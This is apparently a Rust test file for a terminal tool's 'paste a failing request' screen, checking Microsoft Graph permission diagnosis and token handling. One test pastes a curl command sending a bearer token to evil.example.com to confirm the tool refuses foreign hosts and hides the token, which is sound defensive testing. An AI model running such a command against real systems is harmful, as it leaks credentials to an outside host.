//! "Paste a failing request" on the Connect screen, drawn on ratatui's `TestBackend`.

use crossterm::event::KeyCode;
use ratatui::backend::TestBackend;
use ratatui::Terminal;

use crate::report::OperationKind;
use crate::secret::Secret;

use super::super::app::tests::{app, key, token};
use super::super::app::{update, ConnectRow, Effect, Modal, Msg, Slot};
use super::*;

fn draw(app: &App, w: u16, h: u16) -> Terminal<TestBackend> {
    let mut t = Terminal::new(TestBackend::new(w, h)).expect("test backend");
    t.draw(|f| view(app, f)).expect("draws");
    t
}

fn open(a: &mut App) {
    a.connect_focus = ConnectRow::ALL
        .iter()
        .position(|r| *r == ConnectRow::PasteRequest)
        .expect("the row exists");
    update(a, key(KeyCode::Enter));
    assert!(matches!(a.modal, Some(Modal::PasteRequest { .. })));
}

#[test]
fn a_pasted_request_shows_its_permissions_and_with_a_token_runs_the_diagnosis() {
    let mut a = app();
    open(&mut a);
    update(
        &mut a,
        Msg::Paste("GET https://graph.microsoft.com/v1.0/users/8b1e7ab2-1c2d-4e5f-8a9b-0c1d2e3f4a5b/memberOf".into()),
    );
    // The endpoint of the test app is a loopback URL; the global cloud's Graph host is allowed.
    update(&mut a, key(KeyCode::Enter));
    let t = draw(&a, 120, 40);
    insta::assert_snapshot!("paste_request_120x40", t.backend());
    let text = format!("{}", t.backend());
    assert!(
        text.contains("Template: GET /users/{id}/memberof"),
        "{text}"
    );
    assert!(
        text.contains("Least privileged  Directory.Read.All"),
        "{text}"
    );
    assert!(text.contains("Admin consent     needed"), "{text}");
    assert!(
        text.contains("Give a token on the Connect screen"),
        "{text}"
    );

    // Without a token Enter says so and keeps the modal; with one it runs the request's diagnosis.
    let e = update(&mut a, key(KeyCode::Enter));
    assert!(!e.iter().any(|e| matches!(e, Effect::Diagnose { .. })));
    a.modal = None;
    a.set_token(Slot::Diagnosed, Secret::new(token()), "pasted");
    open(&mut a);
    update(
        &mut a,
        Msg::Paste("GET /users/8b1e7ab2-1c2d-4e5f-8a9b-0c1d2e3f4a5b/memberOf".into()),
    );
    update(&mut a, key(KeyCode::Enter));
    let e = update(&mut a, key(KeyCode::Enter));
    let op = e.iter().find_map(|e| match e {
        Effect::Diagnose { input, .. } => Some(input.operation.clone()),
        _ => None,
    });
    let op = op.expect("a diagnosis starts");
    assert_eq!(op.kind, OperationKind::Request);
    assert_eq!(
        op.request.map(|r| r.template),
        Some(Some("/users/{id}/memberof".to_string()))
    );
}

#[test]
fn a_foreign_host_is_refused_and_a_pasted_token_is_never_drawn() {
    let mut a = app();
    open(&mut a);
    let tok = token();
    update(
        &mut a,
        Msg::Paste(format!(
            "curl -H 'Authorization: Bearer {tok}' https://evil.example.com/v1.0/me"
        )),
    );
    update(&mut a, key(KeyCode::Enter));
    let text = format!("{}", draw(&a, 120, 40).backend());
    assert!(
        text.contains("is not the selected cloud's Microsoft Graph"),
        "{text}"
    );
    assert!(!text.contains(&tok[..20]), "the token is drawn");
}
